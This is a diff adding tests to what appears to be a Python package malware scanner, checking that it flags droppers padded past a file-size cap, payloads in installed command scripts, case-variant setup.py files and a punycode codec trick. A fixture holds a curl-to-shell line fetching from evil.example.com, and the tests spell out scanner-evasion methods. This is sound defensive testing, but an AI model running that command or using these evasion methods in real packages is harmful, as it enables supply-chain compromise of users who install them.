@@ -4,13 +4,22 @@ from __future__ import annotations
 
 import ast
 import errno
+import io
 import os
+import tarfile
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from caplet._findings import Severity
-from caplet._scan._collect import _decode, _read_up_to, installers, read_source
+from caplet._scan._collect import (
+    HARD_MAX_FILE_BYTES,
+    _decode,
+    _read_up_to,
+    installers,
+    read_source,
+)
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import DEFAULT_MAX_FILE_BYTES, scan_tree
 
@@ -59,6 +68,26 @@ def test_padding_a_file_past_the_size_limit_does_not_hide_its_payload(tmp_path: 
     # plugin mode keeps the limit: a plugin that large is refused for review anyway
     report = scan_tree(root, mode=ScanMode.PLUGIN)
     assert "CPL-SCAN-001" in {f.rule_id for f in report.findings}
+
+
+@pytest.mark.parametrize("form", ["tree", "wheel"])
+def test_a_payload_past_the_hard_cap_makes_the_file_danger(tmp_path: Path, form: str) -> None:
+    # over 16 MiB a source is not read as code at all: a dropper after 17 MB of padding
+    # was a warning, exit 0 (attack8); its text still says what it holds
+    padding = "# " + "0123456789abcdef" * 64 + "\n"
+    body = padding * (HARD_MAX_FILE_BYTES // len(padding) + 1)
+    files: dict[str, bytes | str] = {"pkg/big.py": body + DROPPER, "pkg/data.py": body + "X = 1\n"}
+    if form == "tree":
+        target = write(tmp_path / "pkg", files)
+    else:
+        target = tmp_path / "pkg-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(target, "w") as archive:
+            for name, text in files.items():
+                archive.writestr(name, text)
+    report = scan_tree(target, mode=ScanMode.PACKAGE)
+    found = {(f.rule_id, f.file, f.severity) for f in report.findings}
+    assert ("CPL-SCAN-001", "pkg/big.py", Severity.DANGER) in found
+    assert ("CPL-SCAN-001", "pkg/data.py", Severity.WARNING) in found
 
 
 def test_a_native_executable_named_py_is_a_threat(tmp_path: Path) -> None:
@@ -272,3 +301,77 @@ def test_what_is_not_a_regular_file_is_not_read(tmp_path: Path) -> None:
     link = read_source(str(tmp_path / "link.py"), 4096)
     assert isinstance(link, OSError)
     assert link.errno == errno.ELOOP
+
+
+_SCRIPT_PAYLOAD = "import os\nos.system('curl -s https://evil.example.com/x | sh')\n"
+
+
+@pytest.mark.parametrize(
+    ("relative", "shebang"),
+    [
+        ("bin/pkg-tool", "#!/usr/bin/env python3"),  # setup.py's scripts=[...]
+        ("pkg-tool", "#!python"),  # pip rewrites it to the environment's interpreter
+        ("scripts/pkg.cmd", "#!/usr/bin/python3.11 -u"),
+        ("pkg-1.0.data/scripts/pkg-run", "#!python"),  # a wheel's scripts
+    ],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist", "wheel"])
+def test_a_python_script_installed_as_a_command_is_read_in_package_mode(
+    tmp_path: Path, relative: str, shebang: str, form: str
+) -> None:
+    # not named .py, so never read: a payload in a command the package installs was
+    # clean in package mode (attack8)
+    data = f"{shebang}\n{_SCRIPT_PAYLOAD}".encode()
+    if form == "tree":
+        target = write(tmp_path / "pkg", {relative: data})
+    elif form == "sdist":
+        target = tmp_path / "pkg-1.0.tar.gz"
+        with tarfile.open(target, "w:gz") as archive:
+            info = tarfile.TarInfo(f"pkg-1.0/{relative}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    else:
+        target = tmp_path / "pkg-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(target, "w") as archive:
+            archive.writestr(relative, data)
+    assert danger(target) == {"CPL-THR-015"}
+
+
+@pytest.mark.parametrize(
+    ("relative", "data"),
+    [
+        ("bin/tool", "#!/bin/sh\necho python\n" + _SCRIPT_PAYLOAD),  # a shell script
+        ("LICENSE", _SCRIPT_PAYLOAD),  # no shebang: data
+        ("docs/run.txt", "#!/usr/bin/env python\n" + _SCRIPT_PAYLOAD),  # named as data
+    ],
+)
+def test_files_that_are_not_python_scripts_stay_unread(
+    tmp_path: Path, relative: str, data: str
+) -> None:
+    assert danger(write(tmp_path, {relative: data})) == set()
+
+
+def test_a_plugins_scripts_are_judged_by_their_names(tmp_path: Path) -> None:
+    root = write(tmp_path, {"bin/tool": "#!/usr/bin/env python3\n" + _SCRIPT_PAYLOAD})
+    report = scan_tree(root, mode=ScanMode.PLUGIN)
+    assert report.files_scanned == 0
+
+
+@pytest.mark.parametrize("name", ["SETUP.PY", "Setup.py", "setup.py.", "setup.py "])
+def test_the_install_script_is_found_as_a_case_insensitive_file_system_finds_it(
+    tmp_path: Path, name: str
+) -> None:
+    # pip finds setup.py on macOS and Windows under any case, trailing dots and spaces
+    # dropped: network at install there was an ordinary module's (attack8)
+    assert installers([name, "docs/setup.py"]) == {name}
+    assert "CPL-THR-011" in danger(write(tmp_path, {name: INSTALL_TIME_NETWORK}))
+
+
+def test_a_codec_that_fails_without_a_position_is_a_decoding_problem(tmp_path: Path) -> None:
+    # UnicodeError, not UnicodeDecodeError: it raised out of the scan (an internal
+    # error, no verdict for the package) (attack8); the interpreter refuses it too
+    text = "# -*- coding: punycode -*-\nimport os\nos.system('id')\n"
+    with pytest.raises(SyntaxError):
+        compile(text.encode(), "mod.py", "exec")
+    report = scan_tree(write(tmp_path, {"mod.py": text}), mode=ScanMode.PACKAGE)
+    assert [(f.rule_id, f.line) for f in report.findings] == [("CPL-SCAN-003", 1)]
